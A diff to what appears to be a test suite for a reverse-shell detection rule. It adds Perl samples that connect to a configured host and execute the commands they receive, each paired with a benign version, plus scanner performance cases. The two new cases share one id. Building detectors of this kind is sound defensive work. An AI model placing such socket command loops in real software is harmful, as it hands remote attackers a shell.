@@ -251,6 +251,40 @@ describeRuleCases('reverse-shell', [
       'local h = io.popen("git status --short")',
     ].join('\n'),
   },
+  {
+    id: 'SG-RSHELL-005',
+    // Perl: a client socket to a host from settings; each line it sends is run in backticks, output sent back.
+    file: 'bin/relay.pl',
+    positive: [
+      '#!/usr/bin/perl',
+      'use IO::Socket::IP;',
+      'my $s = IO::Socket::IP->new(PeerHost => $cfg{peer}, PeerPort => $cfg{port}, Proto => "tcp") or die;',
+      'while (my $line = <$s>) {',
+      '  chomp $line;',
+      '  my $out = `$line`;',
+      '  print $s $out;',
+      '}',
+    ].join('\n'),
+    negative: [
+      '#!/usr/bin/perl',
+      'use IO::Socket::IP;',
+      'my $s = IO::Socket::IP->new(PeerHost => $cfg{peer}, PeerPort => $cfg{port}, Proto => "tcp") or die;',
+      'while (my $line = <$s>) {',
+      '  chomp $line;',
+      '  my $load = qx{uptime};',
+      '  print $s "$line $load";',
+      '}',
+    ].join('\n'),
+  },
+  {
+    id: 'SG-RSHELL-005',
+    // Perl without a shebang (read as other source): connect() + sysread, then system() of the text.
+    file: 'lib/Agent/Link.pm',
+    positive:
+      'socket(my $fh, PF_INET, SOCK_STREAM, 0);\nconnect($fh, sockaddr_in($port, inet_aton($host)));\nsysread($fh, my $cmd, 1024);\nsystem($cmd);\n',
+    negative:
+      'socket(my $fh, PF_INET, SOCK_STREAM, 0);\nconnect($fh, sockaddr_in($port, inet_aton($host)));\nsysread($fh, my $cmd, 1024);\nsystem("logger", "got", length $cmd);\n',
+  },
 ]);
 
 describe('adversarial socket command loops', () => {
@@ -271,6 +305,12 @@ describe('adversarial socket command loops', () => {
       '$s = $c.GetStream(); $r.ReadLine(); iex $b\n' + '$a = '.repeat(MiB / 5),
     ],
     ['PowerShell reads', 'x.ps1', '$s = $c.GetStream(); iex $b\n' + '$a = $r.ReadLine(); '.repeat(MiB / 20)],
+    [
+      'Perl socket arguments',
+      'x.pl',
+      'sysread($s, $b, 9);\nqx{$b};\n' + 'IO::Socket::INET->new(Peer'.repeat(MiB / 26),
+    ],
+    ['Perl backticks', 'x.pl', 'IO::Socket::INET->new(PeerAddr => $h);\n<$s>\n' + '` $a '.repeat(MiB / 5)],
   ];
   it.each(cases)('should scan 1 MiB of %s in under a second', (_name, path, text) => {
     const start = performance.now();
